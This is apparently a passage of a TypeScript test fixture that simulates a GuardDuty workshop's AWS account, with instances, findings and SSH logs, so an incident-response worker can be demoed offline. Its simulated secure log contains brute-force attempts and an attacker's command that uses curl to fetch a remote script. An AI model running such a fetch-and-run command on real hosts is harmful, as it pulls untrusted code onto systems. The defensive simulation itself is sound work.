/**
 * The GuardDuty workshop's AWS account (123456789012, us-west-2) as an in-memory model behind the
 * worker's ports, for the offline demo. One coherent state: the instances, interfaces, security
 * groups, volumes, Auto Scaling group and target group, the GuardDuty detector and its findings
 * (the fixtures' findings), Security Hub, and `/var/log/secure` of each instance in CloudWatch
 * Logs. Mutations really change it (isolation groups, interface groups, tags, snapshots, Standby,
 * deregistration), so Release restores it and drift checks see what changed.
 *
 * Every id and name here agrees with `test/fixtures/events`. All times are written as the
 * fixtures have them (2025-03-11) and moved by `shiftMs` (see `workshopTimeline.ts`).
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { WorkerPorts } from '../src/composition/workerHandler';
import { isBotSuppressionRule, suppressionCriteriaProblem } from '../src/domain/dismissal';
import {
  type HubFinding,
  type InstanceContext,
  InvalidRequestError,
  type InvestigationTarget,
  NotFoundError,
  type RelatedFinding,
} from '../src/domain/investigation';
import {
  type AutoScalingMembership,
  type AwsCallRecord,
  ContainmentError,
  type DryRunRequest,
  type FindingLiveStatus,
  type InstanceProtections,
  type InstanceView,
  ISOLATION_GROUP_TAG,
  isolationGroupName,
  type LoadBalancerMemberships,
  SNAPSHOT_TAGS,
  type SnapshotRef,
  type TargetGroupMembership,
  UNTRACK_GROUP_TAG,
  untrackGroupName,
} from '../src/domain/isolation';
import type {
  ContainmentTarget,
  Ec2Containment,
  FindingStatusReader,
  Traced,
} from '../src/ports/Containment';
import {
  type AccountTarget,
  type BatchResult,
  DismissalError,
  type FindingFeedback,
  GUARDDUTY_BATCH_LIMIT,
  type GuardDutyDismissal,
  type SecurityHubFindingRef,
  type SecurityHubWorkflow,
  type SuppressionRule,
  type SuppressionRuleInput,
  type WorkflowStatus,
} from '../src/ports/Dismissal';
import type {
  LogQuery,
  LogQueryResult,
  RawLogEvent,
  RelatedFindingsQuery,
  SecurityHubQuery,
} from '../src/ports/Investigation';
import { shiftInstant, shiftTimes } from './workshopTimeline';

type Json = Record<string, unknown>;

/** The workshop's account, Region, VPC and GuardDuty detector. */
export const WORKSHOP = {
  accountId: '123456789012',
  region: 'us-west-2',
  vpcId: 'vpc-0abc1234def567890',
  detectorId: '6ec5ff4d2b0f1a3c9e8d7b6a5f4e3d2c',
  secureLogGroup: '/var/log/secure',
} as const;

/** The instances of the workshop, by role in the story. */
export const WORKSHOP_INSTANCES = {
  /** web-01: the SSH brute-force target (port 22 open to the world). */
  web: 'i-0a1b2c3d4e5f60718',
  /** app-02: the compromised host calling the threat-listed 203.0.113.200. */
  app: 'i-0b2c3d4e5f6071829',
  /** app-01: app-02's healthy sibling in the Auto Scaling group. */
  appSibling: 'i-0a9b8c7d6e5f40312',
  /** batch-03: its role credentials were exfiltrated. */
  batch: 'i-0c3d4e5f607182930',
} as const;

/** The fixtures this model takes its GuardDuty findings from (latest version of each id wins). */
const GUARDDUTY_FIXTURES = [
  '01-ec2-sshbruteforce.json',
  '02-ec2-maliciousipcaller-custom.json',
  '03-iam-instancecredentialexfiltration-outsideaws.json',
  '04-iam-maliciousipcaller-custom.json',
  '05-iam-recon-maliciousipcaller-custom.json',
  '06-ec2-malware-maliciousfile.json',
  'variants/01b-ec2-sshbruteforce-update.json',
];

const PRODUCT_ARNS = {
  GuardDuty: 'arn:aws:securityhub:us-west-2::product/aws/guardduty',
  Inspector: 'arn:aws:securityhub:us-west-2::product/aws/inspector',
  'Security Hub': 'arn:aws:securityhub:us-west-2::product/aws/securityhub',
} as const;

// ---------------------------------------------------------------------------------------------
// The model's state
// ---------------------------------------------------------------------------------------------

/** A network interface. */
export interface ModelEni {
  id: string;
  subnetId: string;
  groups: string[];
  deviceIndex: number;
  privateIp: string;
  publicIp?: string;
}

/** An EC2 instance. */
export interface ModelInstance {
  instanceId: string;
  state: string;
  instanceType: string;
  availabilityZone: string;
  imageId: string;
  launchTime: string;
  instanceProfileArn: string;
  imdsV2Required: boolean;
  enis: ModelEni[];
  volumes: { volumeId: string; device: string }[];
  tags: Record<string, string>;
  protections: InstanceProtections;
}

/** A security group; rules are kept as readable strings ("tcp/22 from 0.0.0.0/0"). */
export interface ModelGroup {
  id: string;
  name: string;
  vpcId: string;
  description: string;
  ingress: string[];
  egress: string[];
  tags: Record<string, string>;
}

/** An EBS snapshot. */
export interface ModelSnapshot {
  snapshotId: string;
  volumeId: string;
  state: 'pending' | 'completed';
  description: string;
  tags: Record<string, string>;
}

/** An Auto Scaling group: capacity and each member's lifecycle state. */
export interface ModelAutoScalingGroup {
  name: string;
  min: number;
  max: number;
  desired: number;
  members: Map<string, string>;
}

/** An ELBv2 target group. */
export interface ModelTargetGroup {
  arn: string;
  name: string;
  vpcId: string;
  port: number;
  targets: { id: string; port: number }[];
}

/** A GuardDuty finding, with what the related-findings criteria look at. */
export interface ModelGuardDutyFinding {
  id: string;
  arn: string;
  type: string;
  severity: number;
  title: string;
  createdAt: string;
  updatedAt: string;
  count: number;
  archived: boolean;
  feedback?: { feedback: FindingFeedback; comments?: string };
  instanceId?: string;
  accessKeyId?: string;
  principalId?: string;
  userName?: string;
  /** Every remote IP any version of the finding named. */
  remoteIps: string[];
  direction?: 'INBOUND' | 'OUTBOUND';
}

/** A Security Hub finding that is not a GuardDuty copy (Inspector, Security Hub controls). */
export interface ModelHubFinding {
  finding: Omit<HubFinding, 'matchedBy'>;
  productArn: string;
  resourceIds: string[];
  sourceIp?: string;
  destinationIp?: string;
  notes: string[];
}

/** A GuardDuty filter (suppression rule). */
type ModelFilter = SuppressionRule & { detectorId: string };

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

const hex = (seed: string, length: number): string =>
  createHash('sha256').update(seed).digest('hex').slice(0, length);

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** A syslog header as rsyslog writes it in UTC: `Mar 11 14:04:18` (`Mar  1` for single digits). */
const syslogStamp = (ms: number): string => {
  const date = new Date(ms);
  const pad = (n: number) => String(n).padStart(2, '0');
  return `${MONTHS[date.getUTCMonth()]} ${String(date.getUTCDate()).padStart(2, ' ')} ${pad(
    date.getUTCHours()
  )}:${pad(date.getUTCMinutes())}:${pad(date.getUTCSeconds())}`;
};

const str = (value: unknown): string | undefined =>
  typeof value === 'string' && value !== '' ? value : undefined;
const obj = (value: unknown): Json =>
  typeof value === 'object' && value !== null && !Array.isArray(value) ? (value as Json) : {};

const severityLabel = (severity: number): string =>
  severity >= 9 ? 'CRITICAL' : severity >= 7 ? 'HIGH' : severity >= 4 ? 'MEDIUM' : 'LOW';

/**
 * Whether a CloudWatch Logs term pattern matches a line: `word`, `"a phrase"`, `?"either"
 * ?"or"`, `-excluded`. Metric-style (`{ … }`) and space-delimited (`[ … ]`) patterns are beyond
 * this model: the search answers INVALID_REQUEST for them rather than guessing.
 */
const matchesTermPattern = (pattern: string | undefined, message: string): boolean => {
  if (pattern === undefined || pattern.trim() === '') return true;
  const terms = [...pattern.matchAll(/([?-])?(?:"((?:[^"\\]|\\.)*)"|(\S+))/g)].map((match) => ({
    kind: match[1] === '?' ? 'any' : match[1] === '-' ? 'none' : 'all',
    text: (match[2] ?? match[3] ?? '').replace(/\\(.)/g, '$1'),
  }));
  const any = terms.filter((term) => term.kind === 'any');
  return (
    terms.every((term) => term.kind !== 'all' || message.includes(term.text)) &&
    terms.every((term) => term.kind !== 'none' || !message.includes(term.text)) &&
    (any.length === 0 || any.some((term) => message.includes(term.text)))
  );
};

// ---------------------------------------------------------------------------------------------
// The account
// ---------------------------------------------------------------------------------------------

/**
 * The workshop's account. Build it with {@link WorkshopAccount.fromFixtures}; hand
 * {@link WorkshopAccount.ports} to `createWorkerHandler`. Every AWS call the ports make is
 * appended to {@link WorkshopAccount.apiCalls}.
 */
export class WorkshopAccount {
  readonly accountId: string = WORKSHOP.accountId;
  readonly region: string = WORKSHOP.region;
  readonly instances = new Map<string, ModelInstance>();
  readonly groups = new Map<string, ModelGroup>();
  readonly snapshots: ModelSnapshot[] = [];
  readonly autoScalingGroups = new Map<string, ModelAutoScalingGroup>();
  readonly targetGroups: ModelTargetGroup[] = [];
  readonly guardDutyFindings = new Map<string, ModelGuardDutyFinding>();
  readonly filters = new Map<string, ModelFilter>();
  readonly hubFindings: ModelHubFinding[] = [];
  /** Log events per log group. */
  readonly logGroups = new Map<string, RawLogEvent[]>();
  /** Every AWS API call the ports made, in order. */
  readonly apiCalls: AwsCallRecord[] = [];
  readonly #shiftMs: number;
  #sequence = 0;

  private constructor(shiftMs: number) {
    this.#shiftMs = shiftMs;
  }

  /**
   * The account as the workshop left it, with GuardDuty's findings read from the fixture events
   * in `eventsDir`, every time moved by `shiftMs`.
   */
  public static fromFixtures(eventsDir: string, shiftMs: number): WorkshopAccount {
    const account = new WorkshopAccount(shiftMs);
    account.#buildNetwork();
    account.#buildInstances();
    account.#buildScaling();
    for (const file of GUARDDUTY_FIXTURES) {
      const event = shiftTimes(JSON.parse(readFileSync(join(eventsDir, file), 'utf8')), shiftMs);
      account.#recordGuardDutyFinding(obj((event as Json).detail));
    }
    account.#addPortProbeFinding();
    account.#buildSecurityHub();
    account.#buildSecureLog();
    return account;
  }

  /** The worker's ports on this account: what `createWorkerHandler` gets instead of AWS. */
  public ports(): WorkerPorts {
    return {
      containment: (target) => new WorkshopEc2(this, target),
      findingStatus: (target) => new WorkshopFindingStatus(this, target),
      investigation: {
        instances: { describe: (id, target) => this.#describeForInvestigation(id, target) },
        relatedFindings: { find: (query, target) => this.#relatedFindings(query, target) },
        securityHub: { findings: (query, target) => this.#hubFindingsFor(query, target) },
        logs: { search: (query, target) => this.#searchLogs(query, target) },
      },
      dismissal: new WorkshopDismissal(this),
    };
  }

  /** An instance's interfaces and their groups now (for checks). */
  public eniGroups(instanceId: string): Record<string, string[]> {
    const instance = this.instances.get(instanceId);
    return Object.fromEntries((instance?.enis ?? []).map((eni) => [eni.id, [...eni.groups]]));
  }

  /** A group's name, or its id when unknown. */
  public groupName(groupId: string): string {
    return this.groups.get(groupId)?.name ?? groupId;
  }

  /** The instance's Auto Scaling group and lifecycle state, if any. */
  public autoScalingOf(instanceId: string): AutoScalingMembership | undefined {
    for (const group of this.autoScalingGroups.values()) {
      const state = group.members.get(instanceId);
      if (state !== undefined) return { groupName: group.name, lifecycleState: state };
    }
    return undefined;
  }

  /** Names of the target groups the instance is registered in. */
  public targetGroupsOf(instanceId: string): string[] {
    return this.targetGroups
      .filter((group) => group.targets.some((target) => target.id === instanceId))
      .map((group) => group.name);
  }

  /** Records one API call and returns its record (with a request id, as AWS would give). */
  public call(call: string, resource: string, result = 'ok'): AwsCallRecord {
    this.#sequence += 1;
    const id = hex(`request-${this.#sequence}`, 32);
    const record: AwsCallRecord = {
      call,
      resource,
      requestId: `${id.slice(0, 8)}-${id.slice(8, 12)}-4${id.slice(13, 16)}-a${id.slice(17, 20)}-${id.slice(20, 32)}`,
      result,
    };
    this.apiCalls.push(record);
    return record;
  }

  /** A new resource id (`sg-…`, `snap-…`) in AWS's format, deterministic per run. */
  public newId(prefix: 'sg' | 'snap'): string {
    this.#sequence += 1;
    return `${prefix}-0${hex(`${prefix}-${this.#sequence}`, 16)}`;
  }

  /** A fixture-time ISO instant moved to the demo's clock. */
  public at(iso: string): string {
    return shiftInstant(iso, this.#shiftMs);
  }

  /** True when the target is this account and Region. */
  public isHere(target: { accountId: string; region: string }): boolean {
    return target.accountId === this.accountId && target.region === this.region;
  }

  /** The interface with this id, and its instance. */
  public findEni(eniId: string): { instance: ModelInstance; eni: ModelEni } | undefined {
    for (const instance of this.instances.values()) {
      const eni = instance.enis.find((candidate) => candidate.id === eniId);
      if (eni) return { instance, eni };
    }
    return undefined;
  }

  /** The VPC of a subnet (all of the workshop's subnets are in one VPC). */
  public vpcOf(_subnetId: string): string {
    return WORKSHOP.vpcId;
  }

  // --- building -------------------------------------------------------------------------------

  #buildNetwork(): void {
    const group = (
      id: string,
      name: string,
      description: string,
      ingress: string[],
      egress = ['all traffic to 0.0.0.0/0']
    ): void => {
      this.groups.set(id, {
        id,
        name,
        vpcId: WORKSHOP.vpcId,
        description,
        ingress,
        egress,
        tags: { Name: name },
      });
    };
    group('sg-0123456789abcdef0', 'web-tier-sg', 'Web tier: HTTP and HTTPS from anywhere', [
      'tcp/80 from 0.0.0.0/0',
      'tcp/443 from 0.0.0.0/0',
    ]);
    // The workshop's mistake: SSH open to the world, which the brute force found.
    group('sg-0fedcba9876543210', 'ssh-admin-sg', 'SSH for administrators', [
      'tcp/22 from 0.0.0.0/0',
    ]);
    group('sg-0aa11bb22cc33dd44', 'app-tier-sg', 'App tier: 8080 from the load balancer', [
      'tcp/8080 from sg-0123456789abcdef0',
    ]);
    group('sg-0bb22cc33dd44ee55', 'mgmt-eni-sg', 'Management interface: SSH from the bastion', [
      'tcp/22 from 10.0.0.0/24',
    ]);
    group('sg-0cc33dd44ee55ff66', 'monitoring-agent-sg', 'Node exporter for Prometheus', [
      'tcp/9100 from 10.0.0.0/16',
    ]);
    group('sg-0dd44ee55ff66aa77', 'batch-workers-sg', 'Batch workers: no inbound', []);
  }

  #buildInstances(): void {
    const common = {
      state: 'running',
      availabilityZone: 'us-west-2a',
      imageId: 'ami-0d1e2f3a4b5c6d7e8',
      protections: { disableApiTermination: false, disableApiStop: false },
    };
    const add = (instance: Omit<ModelInstance, keyof typeof common>): void => {
      this.instances.set(instance.instanceId, {
        ...common,
        ...instance,
        protections: { ...common.protections },
        launchTime: this.at(instance.launchTime),
      });
    };
    add({
      instanceId: WORKSHOP_INSTANCES.web,
      instanceType: 't3.small',
      launchTime: '2025-03-02T08:15:27.000Z',
      instanceProfileArn: 'arn:aws:iam::123456789012:instance-profile/web-tier-profile',
      imdsV2Required: true,
      enis: [
        {
          id: 'eni-0a1a1a1a1a1a1a1a1',
          subnetId: 'subnet-0aa11bb22cc33dd44',
          groups: ['sg-0123456789abcdef0', 'sg-0fedcba9876543210'],
          deviceIndex: 0,
          privateIp: '10.0.1.15',
          publicIp: '198.51.100.10',
        },
      ],
      volumes: [{ volumeId: 'vol-0a1b2c3d4e5f6a7b8', device: '/dev/xvda' }],
      tags: { Name: 'web-01', Environment: 'prod', Owner: 'platform-team' },
    });
    add({
      instanceId: WORKSHOP_INSTANCES.app,
      instanceType: 'm5.large',
      launchTime: '2025-02-20T17:40:02.000Z',
      instanceProfileArn: 'arn:aws:iam::123456789012:instance-profile/app-tier-profile',
      imdsV2Required: true,
      enis: [
        {
          id: 'eni-0b2b2b2b2b2b2b2b2',
          subnetId: 'subnet-0bb22cc33dd44ee55',
          groups: ['sg-0aa11bb22cc33dd44'],
          deviceIndex: 0,
          privateIp: '10.0.2.31',
          publicIp: '198.51.100.11',
        },
        {
          id: 'eni-0c3c3c3c3c3c3c3c3',
          subnetId: 'subnet-0cc33dd44ee55ff66',
          groups: ['sg-0bb22cc33dd44ee55', 'sg-0cc33dd44ee55ff66'],
          deviceIndex: 1,
          privateIp: '10.0.3.31',
        },
      ],
      // The volumes Malware Protection scanned (fixture 06).
      volumes: [
        { volumeId: 'vol-0aa1bb2cc3dd4ee5f', device: '/dev/xvda' },
        { volumeId: 'vol-0ff6ee5dd4cc3bb2a', device: '/dev/sdf' },
      ],
      tags: { Name: 'app-02', Environment: 'prod', 'aws:autoscaling:groupName': 'app-tier-asg' },
    });
    add({
      instanceId: WORKSHOP_INSTANCES.appSibling,
      instanceType: 'm5.large',
      launchTime: '2025-02-20T17:39:58.000Z',
      instanceProfileArn: 'arn:aws:iam::123456789012:instance-profile/app-tier-profile',
      imdsV2Required: true,
      enis: [
        {
          id: 'eni-0e5e5e5e5e5e5e5e5',
          subnetId: 'subnet-0bb22cc33dd44ee55',
          groups: ['sg-0aa11bb22cc33dd44'],
          deviceIndex: 0,
          privateIp: '10.0.2.18',
        },
      ],
      volumes: [{ volumeId: 'vol-0123456789abcdef1', device: '/dev/xvda' }],
      tags: { Name: 'app-01', Environment: 'prod', 'aws:autoscaling:groupName': 'app-tier-asg' },
    });
    add({
      instanceId: WORKSHOP_INSTANCES.batch,
      instanceType: 'c6i.xlarge',
      launchTime: '2025-03-08T06:00:11.000Z',
      instanceProfileArn: 'arn:aws:iam::123456789012:instance-profile/batch-ec2-role',
      // IMDSv1 still allowed: how the role's credentials could be read and taken outside AWS.
      imdsV2Required: false,
      enis: [
        {
          id: 'eni-0d4d4d4d4d4d4d4d4',
          subnetId: 'subnet-0bb22cc33dd44ee55',
          groups: ['sg-0dd44ee55ff66aa77'],
          deviceIndex: 0,
          privateIp: '10.0.2.77',
          publicIp: '198.51.100.12',
        },
      ],
      volumes: [{ volumeId: 'vol-0c3d4e5f6a7b8c9d0', device: '/dev/xvda' }],
      tags: { Name: 'batch-03', Environment: 'prod' },
    });
  }

  #buildScaling(): void {
    this.autoScalingGroups.set('app-tier-asg', {
      name: 'app-tier-asg',
      min: 1,
      max: 4,
      desired: 2,
      members: new Map([
        [WORKSHOP_INSTANCES.appSibling, 'InService'],
        [WORKSHOP_INSTANCES.app, 'InService'],
      ]),
    });
    this.targetGroups.push({
      arn: 'arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/app-tier-tg/6d0ecf831eec9f09',
      name: 'app-tier-tg',
      vpcId: WORKSHOP.vpcId,
      port: 8080,
      targets: [
        { id: WORKSHOP_INSTANCES.appSibling, port: 8080 },
        { id: WORKSHOP_INSTANCES.app, port: 8080 },
      ],
    });
  }

  #recordGuardDutyFinding(detail: Json): void {
    const id = str(detail.id);
    if (id === undefined) return;
    const service = obj(detail.service);
    const action = obj(service.action);
    const resource = obj(detail.resource);
    const key = obj(resource.accessKeyDetails);
    const network = obj(action.networkConnectionAction);
    const remoteIps = [
      str(obj(network.remoteIpDetails).ipAddressV4),
      str(obj(obj(action.awsApiCallAction).remoteIpDetails).ipAddressV4),
    ].filter((ip): ip is string => ip !== undefined);
    const previous = this.guardDutyFindings.get(id);
    const updatedAt = str(detail.updatedAt) ?? '';
    const finding: ModelGuardDutyFinding = {
      id,
      arn: str(detail.arn) ?? id,
      type: str(detail.type) ?? 'Unknown',
      severity: typeof detail.severity === 'number' ? detail.severity : 0,
      title: str(detail.title) ?? '',
      createdAt: str(detail.createdAt) ?? updatedAt,
      updatedAt,
      count: typeof service.count === 'number' ? service.count : 1,
      archived: service.archived === true,
      remoteIps: [...new Set([...(previous?.remoteIps ?? []), ...remoteIps])],
      ...(str(obj(resource.instanceDetails).instanceId) === undefined
        ? {}
        : { instanceId: str(obj(resource.instanceDetails).instanceId) }),
      ...(str(key.accessKeyId) === undefined ? {} : { accessKeyId: str(key.accessKeyId) }),
      ...(str(key.principalId) === undefined ? {} : { principalId: str(key.principalId) }),
      ...(str(key.userName) === undefined ? {} : { userName: str(key.userName) }),
      ...(network.connectionDirection === 'INBOUND' || network.connectionDirection === 'OUTBOUND'
        ? { direction: network.connectionDirection }
        : {}),
    };
    if (previous && previous.updatedAt > finding.updatedAt) {
      previous.remoteIps = finding.remoteIps;
      return;
    }
    this.guardDutyFindings.set(id, finding);
  }

  /**
   * Not in the fixtures: the port probe that usually precedes the workshop's brute force (the
   * same attacker finding port 22 open), so web-01 has a related finding of its own.
   */
  #addPortProbeFinding(): void {
    const id = '4d6f8a0c2e4b6d8f0a2c4e6b8d0f2a11';
    this.guardDutyFindings.set(id, {
      id,
      arn: `arn:aws:guardduty:us-west-2:123456789012:detector/${WORKSHOP.detectorId}/finding/${id}`,
      type: 'Recon:EC2/PortProbeUnprotectedPort',
      severity: 2,
      title: 'Unprotected port on EC2 instance i-0a1b2c3d4e5f60718 is being probed.',
      createdAt: this.at('2025-03-11T12:58:02.311Z'),
      updatedAt: this.at('2025-03-11T13:19:45.090Z'),
      count: 6,
      archived: false,
      instanceId: WORKSHOP_INSTANCES.web,
      remoteIps: ['203.0.113.45'],
      direction: 'INBOUND',
    });
  }

  #buildSecurityHub(): void {
    const instanceArn = (id: string) => `arn:aws:ec2:us-west-2:123456789012:instance/${id}`;
    const add = (
      productName: keyof typeof PRODUCT_ARNS,
      finding: Omit<HubFinding, 'matchedBy' | 'productName' | 'updatedAt'> & {
        updatedAt: string;
      },
      resourceIds: string[]
    ): void => {
      this.hubFindings.push({
        finding: { ...finding, productName, updatedAt: this.at(finding.updatedAt) },
        productArn: PRODUCT_ARNS[productName],
        resourceIds,
        notes: [],
      });
    };
    add(
      'Inspector',
      {
        id: 'arn:aws:inspector:us-west-2:123456789012:target/0-7Gq3Kk1d/template/0-Zr4mPq2L/run/0-xJ8sW2vN/finding/0-9hT6bR5c',
        title:
          'Instance i-0a1b2c3d4e5f60718 is configured to support password authentication over SSH',
        severityLabel: 'MEDIUM',
        workflowStatus: 'NEW',
        recordState: 'ACTIVE',
        updatedAt: '2025-03-10T22:14:03.000Z',
        types: ['Software and Configuration Checks/AWS Security Best Practices'],
      },
      [instanceArn(WORKSHOP_INSTANCES.web)]
    );
    add(
      'Inspector',
      {
        id: 'arn:aws:inspector2:us-west-2:123456789012:finding/4b6d8f0a2c4e6a8b0d2f4a6c8e0b2d4f',
        title: 'CVE-2023-48795 - openssh, openssh-clients, openssh-server',
        severityLabel: 'MEDIUM',
        workflowStatus: 'NEW',
        recordState: 'ACTIVE',
        updatedAt: '2025-03-11T03:40:27.000Z',
        types: ['Software and Configuration Checks/Vulnerabilities/CVE'],
      },
      [instanceArn(WORKSHOP_INSTANCES.web)]
    );
    add(
      'Security Hub',
      {
        id: 'arn:aws:securityhub:us-west-2:123456789012:security-control/EC2.9/finding/7c1e5a3b-2d4f-4e6a-9b8c-0d1e2f3a4b5c',
        title: 'EC2 instances should not have a public IPv4 address',
        severityLabel: 'HIGH',
        workflowStatus: 'NEW',
        recordState: 'ACTIVE',
        complianceStatus: 'FAILED',
        updatedAt: '2025-03-11T09:02:11.000Z',
        types: ['Software and Configuration Checks/Industry and Regulatory Standards'],
      },
      [instanceArn(WORKSHOP_INSTANCES.web)]
    );
    add(
      'Security Hub',
      {
        id: 'arn:aws:securityhub:us-west-2:123456789012:security-control/EC2.8/finding/1f2e3d4c-5b6a-4978-8695-a4b3c2d1e0f9',
        title: 'EC2 instances should use Instance Metadata Service Version 2 (IMDSv2)',
        severityLabel: 'HIGH',
        workflowStatus: 'NEW',
        recordState: 'ACTIVE',
        complianceStatus: 'FAILED',
        updatedAt: '2025-03-11T09:02:11.000Z',
        types: ['Software and Configuration Checks/Industry and Regulatory Standards'],
      },
      [instanceArn(WORKSHOP_INSTANCES.batch)]
    );
  }

  /**
   * `/var/log/secure` of each instance, one stream per instance id, as the CloudWatch agent ships
   * it: web-01 gets the administrator's morning login, the port probe, hydra's 37 sessions from
   * 203.0.113.45 (admin, test, oracle, ec2-user), the accepted password for ec2-user, the
   * attacker's first command, and the second wave from 203.0.113.91 that GuardDuty's update saw.
   */
  #buildSecureLog(): void {
    const events: RawLogEvent[] = [];
    const emit = (stream: string, host: string, fixtureIso: string, offsetS: number) => {
      const ms = Date.parse(this.at(fixtureIso)) + offsetS * 1000;
      return (process: string, message: string): void => {
        events.push({
          timestamp: ms,
          message: `${syslogStamp(ms)} ${host} ${process}: ${message}`,
          logStreamName: stream,
          eventId: `${stream}-${String(events.length).padStart(6, '0')}`,
        });
      };
    };
    const web = (iso: string, offsetS = 0) =>
      emit(WORKSHOP_INSTANCES.web, 'ip-10-0-1-15', iso, offsetS);

    web('2025-03-11T09:12:40.000Z')(
      'sshd[21500]',
      'Accepted publickey for ec2-user from 198.51.100.200 port 40022 ssh2: RSA SHA256:Xb2tW3kQe1aJ9rT0pLm4nV8sD6fG2hK5yU7iO1qZ3cE'
    );
    web('2025-03-11T09:12:40.000Z')(
      'sshd[21500]',
      'pam_unix(sshd:session): session opened for user ec2-user(uid=1000) by (uid=0)'
    );
    web('2025-03-11T09:31:02.000Z')(
      'sshd[21500]',
      'pam_unix(sshd:session): session closed for user ec2-user'
    );
    web('2025-03-11T12:57:31.000Z')(
      'sshd[22410]',
      'Connection closed by 203.0.113.45 port 50122 [preauth]'
    );

    const hydra = (
      ip: string,
      users: string[],
      invalid: Set<string>,
      sessions: number,
      from: string,
      spanS: number,
      firstPid: number,
      firstPort: number
    ): void => {
      for (let i = 0; i < sessions; i += 1) {
        const user = users[i % users.length] ?? 'admin';
        const start = Math.round((i * (spanS - 7)) / (sessions - 1));
        const pid = `sshd[${firstPid + i}]`;
        const port = firstPort + i;
        const who = invalid.has(user) ? `invalid user ${user}` : user;
        if (invalid.has(user))
          web(from, start)(pid, `Invalid user ${user} from ${ip} port ${port}`);
        web(from, start + 1)(
          pid,
          `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}${invalid.has(user) ? '' : `  user=${user}`}`
        );
        for (const offset of [3, 5, 7]) {
          web(from, start + offset)(pid, `Failed password for ${who} from ${ip} port ${port} ssh2`);
        }
        web(from, start + 8)(
          pid,
          `Connection closed by ${invalid.has(user) ? 'invalid' : 'authenticating'} user ${user} ${ip} port ${port} [preauth]`
        );
      }
    };
    // GuardDuty: first seen 13:41:05, last seen 14:02:51, count 37, remote port 51734.
    hydra(
      '203.0.113.45',
      ['admin', 'test', 'oracle', 'ec2-user'],
      new Set(['admin', 'test', 'oracle']),
      37,
      '2025-03-11T13:41:05.000Z',
      1306,
      23000,
      51734
    );
    web('2025-03-11T14:04:18.000Z')(
      'sshd[23200]',
      'Accepted password for ec2-user from 203.0.113.45 port 51800 ssh2'
    );
    web('2025-03-11T14:04:18.000Z')(
      'sshd[23200]',
      'pam_unix(sshd:session): session opened for user ec2-user(uid=1000) by (uid=0)'
    );
    web('2025-03-11T14:04:48.000Z')(
      'sudo[23250]',
      'ec2-user : TTY=pts/1 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/usr/bin/curl -s http://198.51.100.99/x.sh'
    );
    // The update six hours later: a new attacker (203.0.113.91), last seen 19:58:30, nothing accepted.
    hydra(
      '203.0.113.91',
      ['root', 'ubuntu', 'pi', 'postgres'],
      new Set(['ubuntu', 'pi', 'postgres']),
      40,
      '2025-03-11T19:20:00.000Z',
      2310,
      31000,
      40222
    );

    emit(
      WORKSHOP_INSTANCES.app,
      'ip-10-0-2-31',
      '2025-03-11T08:47:19.000Z',
      0
    )(
      'sshd[8812]',
      'Accepted publickey for ec2-user from 10.0.0.12 port 50214 ssh2: ED25519 SHA256:q1W2e3R4t5Y6u7I8o9P0a1S2d3F4g5H6j7K8l9Z0x1C'
    );
    emit(
      WORKSHOP_INSTANCES.batch,
      'ip-10-0-2-77',
      '2025-03-11T15:40:03.000Z',
      0
    )(
      'sshd[4417]',
      'Accepted publickey for ec2-user from 10.0.0.12 port 50388 ssh2: ED25519 SHA256:q1W2e3R4t5Y6u7I8o9P0a1S2d3F4g5H6j7K8l9Z0x1C'
    );
    events.sort((a, b) => a.timestamp - b.timestamp);
    this.logGroups.set(WORKSHOP.secureLogGroup, events);
  }

  // --- investigation ports --------------------------------------------------------------------

  async #describeForInvestigation(
    instanceId: string,
    target: InvestigationTarget
  ): Promise<InstanceContext> {
    this.call('ec2:DescribeInstances', instanceId);
    const instance = this.isHere(target) ? this.instances.get(instanceId) : undefined;
    if (!instance) {
      throw new NotFoundError(
        'ec2',
        `Instance ${instanceId} was not found in ${target.accountId} ${target.region}.`
      );
    }
    const primary = instance.enis.find((eni) => eni.deviceIndex === 0) ?? instance.enis[0];
    const groups = [...new Set(instance.enis.flatMap((eni) => eni.groups))];
    return {
      instanceId,
      ...(instance.tags.Name === undefined ? {} : { name: instance.tags.Name }),
      state: instance.state,
      instanceType: instance.instanceType,
      availabilityZone: instance.availabilityZone,
      vpcId: WORKSHOP.vpcId,
      ...(primary === undefined
        ? {}
        : { subnetId: primary.subnetId, privateIp: primary.privateIp }),
      ...(primary?.publicIp === undefined ? {} : { publicIp: primary.publicIp }),
      securityGroups: groups.map((id) => ({ id, name: this.groupName(id) })),
      instanceProfileArn: instance.instanceProfileArn,
      imageId: instance.imageId,
      platform: 'Linux/UNIX',
      launchTime: instance.launchTime,
      imdsV2Required: instance.imdsV2Required,
      networkInterfaceCount: instance.enis.length,
      tags: Object.entries(instance.tags).map(([key, value]) => ({ key, value })),
    };
  }

  async #relatedFindings(
    query: RelatedFindingsQuery,
    target: InvestigationTarget
  ): Promise<{ findings: RelatedFinding[]; truncated: boolean }> {
    this.call('guardduty:ListFindings', WORKSHOP.detectorId);
    if (!this.isHere(target)) {
      throw new NotFoundError('guardduty', `No GuardDuty detector in ${target.region}.`);
    }
    const matched: RelatedFinding[] = [];
    for (const finding of this.guardDutyFindings.values()) {
      if (query.excludeFindingIds.includes(finding.id)) continue;
      if (Date.parse(finding.updatedAt) < query.updatedSince.getTime()) continue;
      const matchedBy = query.criteria
        .filter((criterion) => {
          switch (criterion.match) {
            case 'instance':
              return finding.instanceId === criterion.value;
            case 'accessKey':
              return finding.accessKeyId === criterion.value;
            case 'principal':
              return finding.principalId === criterion.value;
            case 'user':
              return finding.userName === criterion.value;
            case 'remoteIp':
              return finding.remoteIps.includes(criterion.value);
          }
          return false;
        })
        .map((criterion) => criterion.match);
      if (matchedBy.length === 0) continue;
      matched.push({
        id: finding.id,
        type: finding.type,
        severity: finding.severity,
        title: finding.title,
        updatedAt: finding.updatedAt,
        count: finding.count,
        archived: finding.archived,
        matchedBy: [...new Set(matchedBy)],
      });
    }
    if (matched.length > 0) this.call('guardduty:GetFindings', WORKSHOP.detectorId);
    return {
      findings: matched.slice(0, query.maxFindings),
      truncated: matched.length > query.maxFindings,
    };
  }

  /** Security Hub's findings: the stored ones plus GuardDuty's copies, which follow GuardDuty. */
  #allHubFindings(): ModelHubFinding[] {
